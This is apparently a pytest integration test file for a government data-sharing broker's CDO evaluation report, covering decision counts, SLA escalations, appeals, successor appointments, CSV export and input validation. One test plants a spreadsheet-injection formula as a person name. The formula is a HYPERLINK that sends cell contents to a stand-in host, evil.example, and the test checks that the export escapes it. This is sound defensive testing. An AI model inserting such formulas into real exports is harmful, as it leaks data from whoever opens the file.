"""GET /v1/reports/cdo-evaluation: each test makes its own department with its own CDO and
dataset, drives requests to it through the API, and checks its report rows exactly."""

from __future__ import annotations

import csv
import io
import secrets
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from broker.directory import repository as directory_repository
from broker.reports.schemas import CSV_HEADERS_ZH
from broker.requests.sla import escalate_step
from core.models.grants import Grant
from core.models.requests import Decision, RequestStep
from testing.appeals import appeal, decide_appeal, fresh_county, refused_in_county
from testing.apps import LINKS
from testing.clients import ALL_SCOPES, TokenFactory, bearer, decide, file
from testing.clients import Headers as AsOrg
from testing.workloads import request_body

pytestmark = pytest.mark.integration

URL = "/v1/reports/cdo-evaluation"
REQUESTER = "gz-rsj"  # a Guangzhou department: same level as the new body, so one step
Headers = dict[str, str]
JAN, FEB, MAR = "2026-01-01T00:00:00+08:00", "2026-02-01T00:00:00+08:00", "2026-03-01T00:00:00Z"


@dataclass(frozen=True)
class Body:
    id: str
    appointment_id: str
    dataset_id: str
    headers: Headers  # the body's own system, may decide


@pytest.fixture
async def admin(token_for: TokenFactory) -> Headers:
    return bearer(await token_for("gd-dsb", "directory:admin catalog:admin"))


@pytest.fixture
async def reader(token_for: TokenFactory) -> Headers:
    return bearer(await token_for("gd-dsb", "reports:read"))


@pytest.fixture
async def requester(token_for: TokenFactory) -> Headers:
    return bearer(await token_for(REQUESTER, ALL_SCOPES))


async def new_body(
    client: httpx.AsyncClient, admin: Headers, token_for: TokenFactory, person: str = "陈评价"
) -> Body:
    """A Guangzhou department with a CDO since yesterday and a conditional dataset of its own."""
    org_id = f"test-eval-{secrets.token_hex(4)}"
    created = await client.post(
        "/v1/organisations",
        headers=admin,
        json={
            "id": org_id,
            "name": "广州市测试评价局",
            "name_en": "Guangzhou evaluation test bureau",
            "kind": "department",
            "level": "city",
            "division_code": "440100",
            "government_id": "gz-gov",
            "pilot": True,
        },
    )
    assert created.status_code == 201, created.text
    appointed = await client.post("/v1/appointments", headers=admin, json=_cdo(org_id, person))
    assert appointed.status_code == 201, appointed.text
    dataset_id = f"{org_id}-licences"
    dataset = await client.post(
        "/v1/datasets",
        headers=admin,
        json={
            "id": dataset_id,
            "name": "许可证照信息",
            "name_en": "Licences",
            "owner_id": org_id,
            "sharing_class": "conditional",
            "fields": [
                {"name": "licence_no", "label": "证照编号"},
                {"name": "holder", "label": "持证人"},
            ],
        },
    )
    assert dataset.status_code == 201, dataset.text
    headers = bearer(await token_for(org_id, ALL_SCOPES))
    return Body(org_id, appointed.json()["id"], dataset_id, headers)


def _cdo(org_id: str, person: str, starts: datetime | None = None, **extra: Any) -> dict[str, Any]:
    return {
        "organisation_id": org_id,
        "person_name": person,
        "title": "副局长",
        "appointed_by": "测试局党组",
        "filed_with_id": "gz-dsb",
        "starts_at": (starts or datetime.now(UTC) - timedelta(days=1)).isoformat(),
        **extra,
    }


async def _file(client: httpx.AsyncClient, requester: Headers, body: Body) -> str:
    response = await file(client, requester, request_body(body.dataset_id, ["licence_no"]))
    assert response.status_code == 201, response.text
    assert [s["approvers"][0]["organisation_id"] for s in response.json()["route"]] == [body.id]
    return str(response.json()["id"])


async def _decided(client: httpx.AsyncClient, headers: Headers, request_id: str, **kw: Any) -> Any:
    response = await decide(client, headers, request_id, **kw)
    assert response.status_code == 200, response.text
    return response.json()


async def _report(
    client: httpx.AsyncClient, reader: Headers, start: datetime, **params: Any
) -> dict[str, Any]:
    params = {"from": start.isoformat(), "to": _soon().isoformat(), **params}
    response = await client.get(URL, headers=reader, params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    return dict(response.json())


def _soon() -> datetime:
    return datetime.now(UTC) + timedelta(minutes=1)


def _rows(report: dict[str, Any], org_id: str) -> list[dict[str, Any]]:
    return [r for r in report["rows"] if r["organisation_id"] == org_id]


def _measures(row: dict[str, Any]) -> dict[str, Any]:
    identity = {"organisation_id", "organisation_name", "level", "appointment_id"}
    return {k: v for k, v in row.items() if k not in identity | {"person_name", "title"}}


async def test_a_cdos_row_counts_decisions_times_lapses_clarifications_and_revocations(
    client: httpx.AsyncClient,
    app: FastAPI,
    admin: Headers,
    reader: Headers,
    requester: Headers,
    token_for: TokenFactory,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    start = datetime.now(UTC)
    body = await new_body(client, admin, token_for)
    approved, rejected, clarified, lapsed = [await _file(client, requester, body) for _ in range(4)]

    granted = await _decided(client, body.headers, approved, decision="approve")
    await _decided(client, body.headers, rejected, decision="reject", comment="用途不明确")
    asked = await client.post(
        f"/v1/requests/{clarified}/clarifications",
        headers=body.headers,
        json={"question": "请说明使用场景"},
    )
    assert asked.status_code == 201, asked.text
    answered = await client.post(
        f"/v1/requests/{clarified}/clarifications/answer",
        headers=requester,
        json={"answer": "证照核验"},
    )
    assert answered.status_code == 200, answered.text
    delegation = await client.post(
        "/v1/delegations",
        headers=body.headers,
        json={
            "delegate_name": "周代理",
            "delegate_title": "科长",
            "delegate_org_id": "gz-dsb",
            "starts_at": (datetime.now(UTC) - timedelta(minutes=1)).isoformat(),
            "ends_at": (datetime.now(UTC) + timedelta(days=1)).isoformat(),
        },
    )
    assert delegation.status_code == 201, delegation.text
    delegate = bearer(await token_for("gz-dsb", ALL_SCOPES))
    by_delegate = await _decided(client, delegate, clarified, decision="approve")
    assert by_delegate["route"][0]["decisions"][0]["decided_by"] == "周代理"

    async with sessionmaker() as session:
        now = datetime.now(UTC)
        step = await session.scalar(select(RequestStep).where(RequestStep.request_id == lapsed))
        assert step is not None
        escalation = await escalate_step(
            session,
            step,
            directory=(await directory_repository.directory_snapshot(session, now)).view,
            policy=app.state.routing_policy,
            now=now,
            links=LINKS,
        )
        assert escalation is not None
        assert (escalation.lapsed_appointment_id, escalation.to_org_id) == (
            body.appointment_id,
            "gz-gov",
        )
        await session.execute(
            update(Grant)
            .where(Grant.id == granted["grant_id"])
            .values(status="revoked", revoked_at=now, revoked_by="gd-dsb", revoke_reason="test")
        )
        # known SLA-clock times (the API decided within a second): 1 h, 2 h, 3 h elapsed, of
        # which 1 h, 0 h (a night) and 2 h working time
        decisions = await session.scalars(
            select(Decision)
            .where(Decision.organisation_id == body.id)
            .order_by(Decision.created_at)
        )
        for decision, hours, working in zip(decisions, (1, 2, 3), (1, 0, 2), strict=True):
            assert decision.working_seconds is not None  # recorded by the decision
            decision.clock_seconds = hours * 3600
            decision.working_seconds = working * 3600
        await session.commit()

    expected = {
        "requests_routed": 4,
        "decided": 3,
        "decided_by_delegate": 1,
        "approved": 2,
        "rejected": 1,
        "decision_seconds_median": 7200,
        "decision_seconds_p90": 10800,
        "decision_working_seconds_median": 3600,
        "decision_working_seconds_p90": 7200,
        "sla_breaches": 1,
        "escalations_caused": 1,
        "escalations_received": 0,
        "clarifications_asked": 1,
        "grants_revoked_after_approval": 1,
        # coordination: none here (tests/broker/problems and requests/test_appeals count them)
        "problems_filed": 0,
        "problems_naming": 0,
        "problems_answered": 0,
        "problem_answer_seconds_median": None,
        "appeals_received": 0,
        "appeals_upheld": 0,
        "appeals_overturned": 0,
    }
    per_cdo = await _report(client, reader, start)
    assert per_cdo["group_by"] == "cdo"
    [row] = _rows(per_cdo, body.id)
    assert row["appointment_id"] == body.appointment_id
    assert (row["person_name"], row["title"], row["level"]) == ("陈评价", "副局长", "city")
    assert _measures(row) == expected
    [government] = _rows(per_cdo, "gz-gov")  # the lapse went up to Guangzhou's CDO
    assert (government["escalations_received"], government["requests_routed"]) == (1, 1)

    per_body = await _report(client, reader, start, group_by="body")
    [body_row] = _rows(per_body, body.id)
    assert (body_row["appointment_id"], body_row["person_name"]) == (None, None)
    assert _measures(body_row) == expected

    before = await _report(client, reader, start - timedelta(days=1), to=start.isoformat())
    assert _measures(_rows(before, body.id)[0]) == dict.fromkeys(expected, 0) | {
        "decision_seconds_median": None,
        "decision_seconds_p90": None,
        "decision_working_seconds_median": None,
        "decision_working_seconds_p90": None,
        "problem_answer_seconds_median": None,
    }  # the CDO was in office, idle: a row of zeros


async def test_a_coordinators_row_counts_the_appeals_it_received_upheld_and_overturned(
    client: httpx.AsyncClient,
    reader: Headers,
    as_org: AsOrg,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    start = datetime.now(UTC)
    county = await fresh_county(sessionmaker)
    upheld, overturned = [
        await refused_in_county(client, as_org, sessionmaker, county) for _ in range(2)
    ]
    for request_id in (upheld, overturned):
        appealed = await appeal(client, await as_org(county.requester), request_id)
        assert appealed.status_code == 201, appealed.text
        route = [s["organisation_id"] for s in appealed.json()["appeal"]["route"]]
        assert route == [county.government]
    coordinator = await as_org(county.government)
    for request_id, decision in ((upheld, "uphold"), (overturned, "overturn")):
        decided = await decide_appeal(
            client, coordinator, request_id, decision=decision, comment="经协调作出决定"
        )
        assert decided.status_code == 200, decided.text

    report = await _report(client, reader, start)
    [government] = _rows(report, county.government)
    appeals = ("appeals_received", "appeals_upheld", "appeals_overturned")
    assert [government[k] for k in appeals] == [2, 1, 1]
    [provider] = _rows(report, county.provider)  # it refused: it coordinates nothing
    assert [provider[k] for k in appeals] == [0, 0, 0]


async def test_a_successor_gets_the_decisions_made_after_taking_office(
    client: httpx.AsyncClient,
    admin: Headers,
    reader: Headers,
    requester: Headers,
    token_for: TokenFactory,
) -> None:
    start = datetime.now(UTC)
    body = await new_body(client, admin, token_for, person="王前任")
    first, second = [await _file(client, requester, body) for _ in range(2)]
    await _decided(client, body.headers, first, decision="approve")
    successor = await client.post(
        "/v1/appointments",
        headers=admin,
        json=_cdo(body.id, "李继任", datetime.now(UTC), replaces=body.appointment_id),
    )
    assert successor.status_code == 201, successor.text
    await _decided(client, body.headers, second, decision="reject", comment="不符合要求")

    per_cdo = _rows(await _report(client, reader, start, level="city"), body.id)
    assert [(r["person_name"], r["appointment_id"]) for r in per_cdo] == [
        ("李继任", successor.json()["id"]),  # sorted by person: 李 before 王
        ("王前任", body.appointment_id),
    ]
    counts = [(r["requests_routed"], r["decided"], r["approved"], r["rejected"]) for r in per_cdo]
    assert counts == [(0, 1, 0, 1), (2, 1, 1, 0)]
    [whole] = _rows(await _report(client, reader, start, group_by="body"), body.id)
    assert (whole["requests_routed"], whole["decided"], whole["approved"]) == (2, 2, 1)

    provincial = await _report(client, reader, start, level="province")
    assert _rows(provincial, body.id) == []
    assert {r["level"] for r in provincial["rows"]} == {"province"}


async def test_the_csv_export_has_the_json_rows(
    client: httpx.AsyncClient,
    admin: Headers,
    reader: Headers,
    requester: Headers,
    token_for: TokenFactory,
) -> None:
    start = datetime.now(UTC)
    body = await new_body(client, admin, token_for)
    await _decided(client, body.headers, await _file(client, requester, body), decision="approve")
    params = {"from": start.isoformat(), "to": _soon().isoformat(), "level": "city"}
    as_json = (await client.get(URL, headers=reader, params=params)).json()

    by_accept = await client.get(URL, headers=reader | {"Accept": "text/csv"}, params=params)
    by_format = await client.get(URL, headers=reader, params=params | {"format": "csv"})

    for response in (by_accept, by_format):
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"].startswith("attachment; filename=")
        assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
        header, *lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        # the bureaus read Chinese headers (GLOSSARY.md's words), in the columns' order
        assert header == [CSV_HEADERS_ZH[c] for c in as_json["rows"][0]]
        assert lines == [[_as_text(v) for v in row.values()] for row in as_json["rows"]]
        assert any(line[0] == body.id and line[4] == "陈评价" for line in lines)
    english = await client.get(URL, headers=reader, params=params | {"format": "csv", "lang": "en"})
    header = next(csv.reader(io.StringIO(english.content.decode("utf-8-sig"))))
    assert header == list(as_json["rows"][0])
    by_language = await client.get(
        URL,
        headers=reader | {"Accept-Language": "en-GB, zh;q=0.5"},
        params=params | {"format": "csv"},
    )
    assert by_language.content == english.content


def _as_text(value: object) -> str:
    """A JSON value as its CSV cell: a text a spreadsheet would run is led by `'`."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if isinstance(value, str) and text[:1] in ("=", "+", "-", "@") else text


async def test_a_name_that_is_a_formula_is_a_text_cell_in_the_csv(
    client: httpx.AsyncClient, admin: Headers, reader: Headers, token_for: TokenFactory
) -> None:
    start = datetime.now(UTC)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
    body = await new_body(client, admin, token_for, person=formula)
    params = {"from": start.isoformat(), "to": _soon().isoformat(), "format": "csv", "lang": "en"}
    response = await client.get(URL, headers=reader, params=params)
    assert response.status_code == 200, response.text
    header, *lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    [line] = [line for line in lines if line[0] == body.id]
    assert line[header.index("person_name")] == "'" + formula
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)


async def test_the_report_needs_reports_read(
    client: httpx.AsyncClient, token_for: TokenFactory
) -> None:
    params = {"from": JAN, "to": FEB}
    anonymous = await client.get(URL, params=params)
    assert anonymous.status_code == 401
    department = bearer(await token_for(REQUESTER, ALL_SCOPES))
    refused = await client.get(URL, headers=department, params=params)
    assert refused.status_code == 403
    assert refused.json()["required_scope"] == "reports:read"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": FEB, "to": FEB}, "to"),
        ({"from": MAR, "to": FEB}, "to"),
        ({"from": "2026-01-01T00:00:00", "to": FEB}, "from"),  # no time zone
        ({"from": JAN, "to": "next week"}, "to"),
        ({"from": JAN}, "to"),
        ({"from": JAN, "to": FEB, "level": "village"}, "level"),
        ({"from": JAN, "to": FEB, "group_by": "person"}, "group_by"),
    ],
)
async def test_an_invalid_window_is_422_naming_the_field(
    client: httpx.AsyncClient, reader: Headers, params: dict[str, str], field: str
) -> None:
    response = await client.get(URL, headers=reader, params=params)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["detail"].startswith(f"{field}: ")
